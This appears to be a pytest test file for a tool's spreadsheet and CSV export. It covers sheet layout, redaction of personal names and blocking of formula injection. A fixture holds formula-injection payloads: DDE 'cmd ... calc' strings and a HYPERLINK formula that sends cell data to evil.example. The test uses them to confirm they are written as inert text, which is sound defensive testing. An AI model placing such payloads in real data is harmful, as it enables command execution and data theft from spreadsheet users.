"""`vpsec export`: registers a spreadsheet program opens as they are, and never runs."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from conftest import AS_OF, EXAMPLE, RunCli, WriteWorkspace
from vpsec.load.source import open_workspace
from vpsec.models import KINDS
from vpsec.redact import collect_names, name_parts
from vpsec.sheets.columns import sheet_title
from vpsec.sheets.export import ABOUT_TITLE, LISTS_TITLE
from vpsec.withhold import record_data, waiver_data


@pytest.fixture(scope="module")
def example_xlsx(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from vpsec.cli import app
    from vpsec.cli.errors import run

    out = tmp_path_factory.mktemp("export") / "all.xlsx"
    assert run(app, ["export", "all", "-w", str(EXAMPLE), "--as-of", AS_OF, "-o", str(out)]) == 0
    return out


def cells(path: Path) -> list[Any]:
    book = openpyxl.load_workbook(path)
    return [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_one_sheet_per_kind_with_real_dates_numbers_and_findings(example_xlsx: Path) -> None:
    book = openpyxl.load_workbook(example_xlsx)
    assert book.sheetnames == [*(sheet_title(k) for k in KINDS), ABOUT_TITLE, LISTS_TITLE]
    assert book[LISTS_TITLE].sheet_state == "hidden"
    sheet = book["Transfers"]
    headers = [c.value for c in sheet[1]]
    assert headers[:4] == ["ID", "Site", "Date", "Type"]
    assert headers[-1] == "Findings (vpsec assess)"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref is not None and sheet.auto_filter.ref.startswith("A1:")
    rows = [dict(zip(headers, [c.value for c in row], strict=True)) for row in sheet.iter_rows(2)]
    # Transfer trf-2026-002 has two items: two rows, its other fields repeated.
    two = [r for r in rows if r["ID"] == "trf-2026-002"]
    assert len(two) == 2 and two[0]["Purpose"] == two[1]["Purpose"]
    assert {r["Item description"] for r in two} == {
        "Handheld VHF radio, company frequency plan",
        "Six-bay radio charging station",
    }
    assert sheet.cell(row=2, column=3).is_date
    assert isinstance(two[0]["Item quantity"], int) and isinstance(two[0]["Item value amount"], int)
    assert any(r["Findings (vpsec assess)"] and "TRF" in r["Findings (vpsec assess)"] for r in rows)
    widths = [sheet.column_dimensions[c].width for c in ("A", "L")]
    assert all(8 <= w <= 60 for w in widths)
    lists = {str(v.sqref).split(":")[0]: v for v in sheet.data_validations.dataValidation}
    assert lists["D2"].type == "list" and lists["D2"].formula1.startswith("Lists!")
    assert lists["M2"].formula1 == '"yes,no"'  # Lethal
    about = [[c.value for c in row] for row in book[ABOUT_TITLE].iter_rows()]
    assert ["Transfers", "Item quantity", "items.quantity"] in [row[:3] for row in about]


def test_the_public_form_contains_no_personal_name(cli: RunCli, tmp_path: Path) -> None:
    out = tmp_path / "public.xlsx"
    code, _, err = cli(EXAMPLE, "export", "all", "--audience", "public", "-o", str(out))
    assert code == 0, err
    opened = open_workspace(EXAMPLE)
    names = collect_names(record_data(opened), waiver_data(opened))
    assert len(names) > 5
    texts = [str(v) for v in cells(out) if isinstance(v, str)]
    everything = "\n".join(texts)
    for name in names:
        for part in name_parts(name):
            assert not re.search(rf"(?<!\w){re.escape(part)}(?!\w)", everything), (name, part)
    restricted = [r["id"] for r in record_data(opened) if r.get("sensitivity") == "restricted"]
    for record_id in restricted:
        assert record_id not in everything
    assert "Prepared for publication" in everything
    # The same workbook for internal use names them.
    internal = tmp_path / "internal.xlsx"
    assert cli(EXAMPLE, "export", "all", "-o", str(internal))[0] == 0
    assert any(part in "\n".join(map(str, cells(internal))) for part in name_parts(names[0]))


INJECTION = """\
apiVersion: vpsec/v1
kind: Transfer
id: trf-x
site: kamituga
date: 2026-03-02
type: equipment
recipient: {authority: local, unit: "+cmd|' /C calc'!A0"}
items:
  - {description: "@SUM(1+1)*cmd|' /C calc'!A0", quantity: 1}
  - {description: "-2+3", quantity: 1}
  - {description: "\\tTAB", quantity: 1}
  - {description: "\\rCR", quantity: 1}
purpose: '=HYPERLINK("http://evil.example/?"&A1, "receipt")'
title: "'=already quoted"
"""
SITE = "apiVersion: vpsec/v1\nkind: Site\nid: kamituga\nname: Kamituga\ncountry: CD\n"


def test_cells_that_would_run_are_written_as_text(
    cli: RunCli, write_workspace: WriteWorkspace, tmp_path: Path
) -> None:
    ws = write_workspace({"sites/kamituga.yaml": SITE, "transfers/trf-x.yaml": INJECTION})
    out = tmp_path / "t.xlsx"
    assert cli(ws, "export", "transfer", "-o", str(out))[0] == 0
    book = openpyxl.load_workbook(out)
    sheet = book["Transfers"]
    dangerous = [
        cell
        for row in sheet.iter_rows(2)
        for cell in row
        if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t\r"
    ]
    assert len(dangerous) >= 6
    for cell in dangerous:
        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    assert b"<f>" not in _sheet_xml(out)
    code, text, _ = cli(ws, "export", "transfer", "--format", "csv")
    assert code == 0
    fields = [f for row in csv.reader(io.StringIO(text)) for f in row]
    assert '\'=HYPERLINK("http://evil.example/?"&A1, "receipt")' in fields
    assert "''=already quoted" in fields
    for field in fields:
        assert not field.startswith(("=", "+", "-", "@", "\t", "\r")), field


def _sheet_xml(path: Path) -> bytes:
    import zipfile

    with zipfile.ZipFile(path) as archive:
        return b"".join(archive.read(n) for n in archive.namelist() if n.startswith("xl/work"))


def test_template_site_filter_and_outputs(cli: RunCli, tmp_path: Path) -> None:
    code, _, err = cli(tmp_path, "export", "--template", "transfer")
    assert code == 0, err
    template = tmp_path / "transfers-template.xlsx"
    book = openpyxl.load_workbook(template)
    assert book.sheetnames == ["Transfers", ABOUT_TITLE, LISTS_TITLE]
    assert book["Transfers"].max_row == 1
    dates = [v for v in book["Transfers"].data_validations.dataValidation if v.type == "date"]
    assert dates and str(dates[0].sqref).endswith("1000")
    # The default file name is never overwritten.
    code, _, err = cli(tmp_path, "export", "--template", "transfer")
    assert code == 2 and "already exists" in err
    code, text, _ = cli(EXAMPLE, "export", "transfer", "-f", "csv", "--site", "chingola-west")
    assert code == 0
    sites = {row["Site"] for row in csv.DictReader(io.StringIO(text))}
    assert sites == {"chingola-west"}
    code, _, err = cli(EXAMPLE, "export", "all", "-f", "csv")
    assert code == 2 and "--output DIR" in err
    code, _, err = cli(EXAMPLE, "export", "all", "-f", "csv", "-o", str(tmp_path / "csv"))
    assert code == 0, err
    assert sorted(p.name for p in (tmp_path / "csv").iterdir()) == sorted(
        f"{m.INFO.folder}.csv" for m in KINDS.values()
    )
    code, _, err = cli(EXAMPLE, "export", "transfer", "--site", "atlantis")
    assert code == 2 and "--site" in err
    code, _, err = cli(EXAMPLE, "export", "potato")
    assert code == 2 and "unknown kind" in err


def test_dates_before_1900_are_text(
    cli: RunCli, write_workspace: WriteWorkspace, tmp_path: Path
) -> None:
    old = SITE + "---\n" + INJECTION.replace("date: 2026-03-02", "date: 1899-12-31")
    ws = write_workspace({"records.yaml": old})
    out = tmp_path / "old.xlsx"
    assert cli(ws, "export", "transfer", "-o", str(out))[0] == 0
    sheet = openpyxl.load_workbook(out)["Transfers"]
    assert sheet.cell(row=2, column=3).value == "1899-12-31"
    assert date(1899, 12, 31).isoformat() == "1899-12-31"


@pytest.mark.slow
def test_libreoffice_opens_the_export(example_xlsx: Path, tmp_path: Path) -> None:
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.skip("LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
    profile = tmp_path / "profile"
    done = subprocess.run(
        [
            soffice,
            f"-env:UserInstallation=file://{profile}",
            "--headless",
            "--convert-to",
            "pdf",
            "--outdir",
            str(tmp_path),
            str(example_xlsx),
        ],
        capture_output=True,
        text=True,
        timeout=180,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    pdf = tmp_path / "all.pdf"
    assert pdf.exists() and pdf.read_bytes().startswith(b"%PDF")
    # LibreOffice warns about its own setup (no Java); anything about the file would show here.
    complaints = [
        line
        for line in done.stderr.splitlines()
        if line.strip() and "javaldx" not in line and "java may not function" not in line
    ]
    assert complaints == []
